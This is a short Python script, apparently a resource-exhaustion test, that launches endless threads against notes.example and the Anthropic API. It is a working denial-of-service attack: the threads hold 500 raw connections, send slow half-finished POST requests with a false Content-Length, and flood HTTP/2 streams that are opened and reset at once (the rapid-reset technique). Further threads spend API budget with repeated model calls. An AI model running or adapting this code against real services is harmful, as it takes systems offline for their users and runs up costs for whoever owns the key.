# Uses up whatever one bottle may use: connections, half requests, streams that are reset, holds on the budget. Until it is
# stopped.
import os
import socket
import ssl
import threading
import http.client

import h2.config
import h2.connection

CALL = '{"model":"claude-opus-4-8","max_tokens":4096,"messages":[{"role":"user","content":"hi"}]}'


def forever(work):
    def run():
        while True:
            try:
                work()
            except OSError:
                pass
            except Exception as error:
                print(f"{work.__name__}: {error!r}", flush=True)

    threading.Thread(target=run, daemon=True).start()


def connections():
    held = []
    for _ in range(500):
        held.append(socket.create_connection(("notes.example", 443), timeout=5))


def half_requests():
    context = ssl.create_default_context()
    held = []
    for _ in range(50):
        tcp = socket.create_connection(("notes.example", 443), timeout=5)
        tls = context.wrap_socket(tcp, server_hostname="notes.example")
        tls.sendall(b"POST /sink HTTP/1.1\r\nHost: notes.example\r\nContent-Length: 1000000\r\n\r\nx")
        held.append(tls)


def rapid_reset():
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    tcp = socket.create_connection(("notes.example", 443), timeout=5)
    tls = context.wrap_socket(tcp, server_hostname="notes.example")
    connection = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding=None))
    connection.initiate_connection()
    for _ in range(2000):
        stream = connection.get_next_available_stream_id()
        fields = [(":method", "GET"), (":path", "/echo"), (":scheme", "https"), (":authority", "notes.example")]
        connection.send_headers(stream, fields, end_stream=True)
        connection.reset_stream(stream)
        tls.sendall(connection.data_to_send())


def holds():
    connection = http.client.HTTPSConnection("api.anthropic.com", timeout=20)
    fields = {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "anthropic-version": "2023-06-01"}
    for _ in range(50):
        connection.request("POST", "/v1/messages", CALL, fields)
        connection.getresponse().read()


for work in [connections, half_requests, rapid_reset] + 4 * [holds]:
    forever(work)
print("flooding", flush=True)
threading.Event().wait()
